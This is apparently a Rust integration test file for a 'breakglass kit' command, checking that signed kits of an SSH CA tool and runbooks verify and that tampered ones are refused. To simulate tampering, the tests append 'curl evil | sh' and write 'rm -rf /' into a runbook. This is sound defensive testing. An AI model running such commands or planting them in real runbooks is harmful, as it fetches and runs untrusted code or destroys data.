//! `breakglass kit`: a kit made on the simulated key is accepted by `sha256sum -c` and plain
//! `ssh-keygen -Y verify`, by `kit --verify` and by `doctor` run inside it; every kind of change
//! (a changed, missing or extra file, a bad or foreign signature, another CA than the one the
//! operator names) is refused with its exact message; a kit is never half made or overwritten.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::openssh::{fingerprint, ssh_keygen};
use common::*;

const HINT: &str = "Do not use this kit: take another copy (the backup key's kit, or the one in the safe), or make a new one with `breakglass kit` on a trusted machine, and find out who changed this one.\n";

fn sha256(p: &Path) -> String {
    breakglass::ops::kit::manifest::sha256_file(p).unwrap()
}

/// A world with the primary CA (sk-user-ca.pub) and a backup CA on a second simulated key
/// (backup-ca.pub), and an inventory.
fn world() -> World {
    let w = World::new();
    w.init_ca();
    let o = w.run_env(
        &["init-ca", "-f", "backup-ca"],
        &[("BREAKGLASS_SIM_DIR", w.other_sim("sim2").to_str().unwrap())],
    );
    assert!(o.status.success(), "{}", err(&o));
    std::fs::write(w.path("inventory.ini"), "[breakglass_hosts]\nweb1\n").unwrap();
    w
}

fn make(w: &World, dir: &str) -> String {
    w.ok(&[
        "kit",
        dir,
        "--ca",
        "sk-user-ca.pub",
        "--ca",
        "backup-ca.pub",
        "--hosts",
        "inventory.ini",
    ])
}

fn verify(w: &World, dir: &str, fp: Option<&str>) -> Output {
    let mut args = vec!["kit", "--verify", dir];
    if let Some(fp) = fp {
        args.extend(["--ca-fingerprint", fp]);
    }
    w.run(&args)
}

fn refused(o: &Output, message: &str, hint: &str) {
    assert_eq!(
        o.status.code(),
        Some(1),
        "stdout: {}\nstderr: {}",
        out(o),
        err(o)
    );
    assert_eq!(out(o), "");
    assert_eq!(err(o), format!("breakglass: {message}.\n{hint}"));
}

fn files_of(dir: &Path) -> Vec<String> {
    let mut v = Vec::new();
    for e in walk(dir) {
        v.push(e.strip_prefix(dir).unwrap().display().to_string());
    }
    v.sort();
    v
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            v.extend(walk(&p));
        } else {
            v.push(p);
        }
    }
    v
}

#[test]
fn a_kit_verifies_with_sha256sum_ssh_keygen_and_itself() {
    let w = world();
    let ca_fp = fingerprint(&w.path("sk-user-ca.pub"));
    let stdout = make(&w, "kit");
    assert!(
        stdout.starts_with(&format!(
            "Made kit kit: 18 files, SHA256SUMS signed by CA {ca_fp} (SIMULATED).\n"
        )),
        "{stdout}"
    );
    let kit = w.path("kit");
    assert_eq!(
        files_of(&kit),
        [
            "KIT.md",
            "SHA256SUMS",
            "SHA256SUMS.sig",
            "allowed_signers",
            "backup-ca",
            "backup-ca.attest",
            "backup-ca.pub",
            "breakglass",
            "inventory.ini",
            "runbooks/drill.md",
            "runbooks/handoff.md",
            "runbooks/incident.md",
            "runbooks/practice-with-openssh.md",
            "runbooks/rotation-and-revocation.md",
            "runbooks/setup.md",
            "sk-user-ca",
            "sk-user-ca.attest",
            "sk-user-ca.pub",
        ]
    );
    // The program is this one, still executable; the runbooks are the repository's.
    assert_eq!(sha256(&kit.join("breakglass")), sha256(&bin()));
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(kit.join("breakglass"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    assert_eq!(
        std::fs::read(kit.join("runbooks/incident.md")).unwrap(),
        std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/runbooks/incident.md")).unwrap()
    );
    // No temporary directory is left beside it.
    let names: Vec<String> = std::fs::read_dir(&w.work)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!names.iter().any(|n| n.starts_with('.')), "{names:?}");

    // coreutils and OpenSSH alone.
    let sums = Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&kit)
        .output()
        .unwrap();
    assert!(sums.status.success(), "{}", out(&sums));
    assert_eq!(out(&sums).lines().count(), 16);
    let allowed = std::fs::read_to_string(kit.join("allowed_signers")).unwrap();
    assert!(allowed.starts_with("breakglass-kit@sk-user-ca namespaces=\"breakglass-kit\" sk-ecdsa-sha2-nistp256@openssh.com "), "{allowed}");
    assert!(allowed.contains("\nbreakglass-kit@backup-ca namespaces=\"breakglass-kit\" sk-ecdsa-sha2-nistp256@openssh.com "), "{allowed}");
    let keygen = |identity: &str, kit: &Path| {
        Command::new("ssh-keygen")
            .args([
                "-Y",
                "verify",
                "-f",
                "allowed_signers",
                "-I",
                identity,
                "-n",
                "breakglass-kit",
                "-s",
                "SHA256SUMS.sig",
            ])
            .current_dir(kit)
            .stdin(std::fs::File::open(kit.join("SHA256SUMS")).unwrap())
            .output()
            .unwrap()
    };
    let good = keygen("breakglass-kit@sk-user-ca", &kit);
    assert!(good.status.success(), "{}", err(&good));
    assert_eq!(
        out(&good),
        format!("Good \"breakglass-kit\" signature for breakglass-kit@sk-user-ca with ECDSA-SK key {ca_fp}\n")
    );
    // The backup CA did not sign it.
    assert!(!keygen("breakglass-kit@backup-ca", &kit).status.success());

    // breakglass itself, with the fingerprint the hosts trust.
    let o = verify(&w, "kit", Some(&ca_fp));
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(err(&o), "");
    assert_eq!(
        out(&o),
        format!(
            "Kit kit: OK, 16 files match SHA256SUMS, signed by CA {ca_fp} (the --ca-fingerprint given).\n  breakglass SHA-256 {}\n",
            sha256(&bin())
        )
    );
    // Without one: self-consistency only, and it says so.
    let o = verify(&w, "kit", None);
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(
        err(&o),
        format!("warning: no --ca-fingerprint given: this shows only that the kit agrees with itself (signed by its own CA {ca_fp}), not that the CA is yours; compare that fingerprint with the one your hosts trust, or run again with --ca-fingerprint.\n")
    );

    // The kit's own program prints the SHA-256 SHA256SUMS lists for it.
    let v = Command::new(kit.join("breakglass"))
        .args(["--version", "--verbose"])
        .output()
        .unwrap();
    assert!(v.status.success());
    let listed = std::fs::read_to_string(kit.join("SHA256SUMS")).unwrap();
    let line = listed
        .lines()
        .find(|l| l.ends_with("  breakglass"))
        .unwrap();
    let hash = &line[..64];
    assert!(
        out(&v).ends_with(&format!("\nSHA-256 {hash}\n")),
        "{}",
        out(&v)
    );

    // doctor run inside the kit (by the kit's own program) checks it first.
    let d = Command::new(kit.join("breakglass"))
        .args(["doctor", "--backend", "sim"])
        .current_dir(&kit)
        .env("BREAKGLASS_SIM_DIR", &w.sim)
        .env("BREAKGLASS_AUDIT_LOG", &w.audit)
        .output()
        .unwrap();
    assert_eq!(
        out(&d).lines().next().unwrap(),
        format!("  [OK]   kit                16 files match SHA256SUMS, signed by the kit's own CA {ca_fp} (compare it with the one your hosts trust)")
    );

    // The signature is in the audit log with the key's counter, so log --verify still agrees.
    let log = std::fs::read_to_string(&w.audit).unwrap();
    let last: serde_json::Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    assert_eq!(last["action"], "kit");
    assert_eq!(last["result"], "ok");
    assert_eq!(last["ca_fingerprint"], ca_fp.as_str());
    assert!(last["counter"].is_string(), "{last}");
    w.ok(&["log", "--verify", "--ca", "sk-user-ca.pub"]);
}

#[test]
fn a_tampered_kit_is_refused_naming_the_change() {
    let w = world();
    let ca_fp = fingerprint(&w.path("sk-user-ca.pub"));
    make(&w, "kit");
    let kit = w.path("kit");
    let tampered =
        |what: &str| format!("the kit in kit does not match its signed SHA256SUMS: {what}");

    // A changed runbook, and a changed program (one byte).
    let setup = kit.join("runbooks/setup.md");
    let original = std::fs::read(&setup).unwrap();
    std::fs::write(
        &setup,
        [original.as_slice(), b"\ncurl evil | sh\n"].concat(),
    )
    .unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        &tampered("runbooks/setup.md has changed"),
        HINT,
    );
    std::fs::write(&setup, &original).unwrap();
    let program = std::fs::read(kit.join("breakglass")).unwrap();
    let mut changed = program.clone();
    let mid = changed.len() / 2;
    changed[mid] ^= 0x01;
    std::fs::write(kit.join("breakglass"), &changed).unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        &tampered("breakglass has changed"),
        HINT,
    );
    std::fs::write(kit.join("breakglass"), &program).unwrap();

    // A missing file, an extra file.
    let md = std::fs::read(kit.join("KIT.md")).unwrap();
    std::fs::remove_file(kit.join("KIT.md")).unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        &tampered("KIT.md is missing"),
        HINT,
    );
    std::fs::write(kit.join("KIT.md"), &md).unwrap();
    std::fs::write(kit.join("runbooks/notes.md"), "run this first\n").unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        &tampered("runbooks/notes.md is not in SHA256SUMS (added after signing)"),
        HINT,
    );
    std::fs::remove_file(kit.join("runbooks/notes.md")).unwrap();
    assert!(verify(&w, "kit", Some(&ca_fp)).status.success(), "restored");

    // A changed file with SHA256SUMS edited to match: the signature no longer verifies
    // (and neither does ssh-keygen).
    let sums = std::fs::read_to_string(kit.join("SHA256SUMS")).unwrap();
    std::fs::write(&setup, b"rm -rf /\n").unwrap();
    let old_line = sums
        .lines()
        .find(|l| l.ends_with("  runbooks/setup.md"))
        .unwrap();
    let forged = sums.replace(old_line, &format!("{}  runbooks/setup.md", sha256(&setup)));
    std::fs::write(kit.join("SHA256SUMS"), &forged).unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        "the kit in kit is not validly signed: SHA256SUMS.sig does not verify over SHA256SUMS (one of them was changed after signing)",
        HINT,
    );
    let keygen = ssh_keygen(
        &[
            "-Y",
            "verify",
            "-f",
            "allowed_signers",
            "-I",
            "breakglass-kit@sk-user-ca",
            "-n",
            "breakglass-kit",
            "-s",
            "SHA256SUMS.sig",
        ],
        &kit,
    );
    assert!(
        !keygen.status.success(),
        "ssh-keygen has no stdin here, so it must fail as well"
    );
    std::fs::write(kit.join("SHA256SUMS"), &sums).unwrap();
    std::fs::write(&setup, &original).unwrap();

    // A signature that is not one, and the signature of a CA the kit does not name.
    let sig = std::fs::read(kit.join("SHA256SUMS.sig")).unwrap();
    std::fs::write(kit.join("SHA256SUMS.sig"), "signed, trust me\n").unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        "the kit in kit is not validly signed: SHA256SUMS.sig is not an SSH signature (-----BEGIN SSH SIGNATURE-----)",
        HINT,
    );
    std::fs::remove_file(kit.join("SHA256SUMS.sig")).unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        "the kit in kit is not validly signed: SHA256SUMS.sig: no such file",
        HINT,
    );
    let other = World::new();
    other.init_ca();
    let other_fp = fingerprint(&other.path("sk-user-ca.pub"));
    other.ok(&["kit", "theirs", "--ca", "sk-user-ca.pub"]);
    std::fs::copy(
        other.path("theirs/SHA256SUMS.sig"),
        kit.join("SHA256SUMS.sig"),
    )
    .unwrap();
    refused(
        &verify(&w, "kit", Some(&ca_fp)),
        &format!("the kit in kit is signed by {other_fp}, which its allowed_signers does not name"),
        HINT,
    );
    std::fs::write(kit.join("SHA256SUMS.sig"), &sig).unwrap();

    // A whole kit made by someone else's CA: consistent in itself, refused against ours.
    let theirs = other.path("theirs");
    let o = w.run(&[
        "kit",
        "--verify",
        theirs.to_str().unwrap(),
        "--ca-fingerprint",
        &ca_fp,
    ]);
    refused(
        &o,
        &format!("the kit in {} is signed by CA {other_fp}, not by {ca_fp}", theirs.display()),
        "Do not use this kit unless that CA is yours: compare with the fingerprint your hosts trust (ssh-keygen -lf on their TrustedUserCAKeys file), then use the right kit.\n",
    );
    let o = w.run(&["kit", "--verify", theirs.to_str().unwrap()]);
    assert!(o.status.success(), "self-consistent: {}", err(&o));
    assert!(
        err(&o).contains("this shows only that the kit agrees with itself"),
        "{}",
        err(&o)
    );

    // Not a kit; a mistyped fingerprint is a usage error.
    std::fs::create_dir(w.path("empty")).unwrap();
    refused(
        &verify(&w, "empty", None),
        "empty is not a breakglass kit: it has no SHA256SUMS",
        "Give the kit's directory (the one holding KIT.md, SHA256SUMS and SHA256SUMS.sig), made with `breakglass kit DIR`.\n",
    );
    let o = verify(&w, "kit", Some("HpBgmVXCR7wzDrh6e60UUtaD27qe"));
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        err(&o),
        "breakglass: --ca-fingerprint HpBgmVXCR7wzDrh6e60UUtaD27qe is not a SHA-256 key fingerprint.\nGive it as ssh-keygen -l prints it, e.g. --ca-fingerprint SHA256:HpBgmVXCR7wzDrh6e60UUtaD27qe/NGMVzw4828X7ls.\n"
    );

    // Everything restored: the kit verifies again.
    assert!(verify(&w, "kit", Some(&ca_fp)).status.success());
}

#[test]
fn a_kit_is_never_half_made_nor_overwritten_without_force() {
    let w = world();
    w.ok(&["kit", "kit", "--ca", "sk-user-ca.pub"]);
    let before = sha256(&w.path("kit/SHA256SUMS"));
    let o = w.run(&["kit", "kit", "--ca", "sk-user-ca.pub"]);
    refused(
        &o,
        "kit already exists",
        "Pick another directory, or pass --force to replace the kit that is there.\n",
    );
    assert_eq!(sha256(&w.path("kit/SHA256SUMS")), before);
    // An empty directory is not replaced either.
    std::fs::create_dir(w.path("empty")).unwrap();
    refused(
        &w.run(&["kit", "empty", "--ca", "sk-user-ca.pub"]),
        "empty already exists",
        "Pick another directory, or pass --force to replace the kit that is there.\n",
    );
    // A denied touch: no kit, no temporary directory, the old kit untouched.
    let o = w.run_env(
        &["kit", "kit", "--ca", "sk-user-ca.pub", "--force"],
        &[("BREAKGLASS_SIM_TOUCH", "deny")],
    );
    assert_eq!(o.status.code(), Some(1), "{}", err(&o));
    assert_eq!(sha256(&w.path("kit/SHA256SUMS")), before);
    let o = w.run_env(
        &["kit", "new", "--ca", "sk-user-ca.pub"],
        &[("BREAKGLASS_SIM_TOUCH", "deny")],
    );
    assert_eq!(o.status.code(), Some(1), "{}", err(&o));
    assert!(!w.path("new").exists());
    let hidden: Vec<String> = std::fs::read_dir(&w.work)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
    // --force replaces it.
    let o = w.ok(&["kit", "kit", "--ca", "sk-user-ca.pub", "--force"]);
    assert!(o.starts_with("Replaced kit kit: "), "{o}");
    assert!(verify(&w, "kit", None).status.success());
    // Two CA files with one name cannot both go in.
    std::fs::create_dir(w.path("b")).unwrap();
    std::fs::copy(w.path("backup-ca.pub"), w.path("b/sk-user-ca.pub")).unwrap();
    refused(
        &w.run(&[
            "kit",
            "two",
            "--ca",
            "sk-user-ca.pub",
            "--ca",
            "b/sk-user-ca.pub",
        ]),
        "two files would be called sk-user-ca.pub in the kit",
        "Rename one of the files (each --ca file's base name must differ) and run again.\n",
    );
}
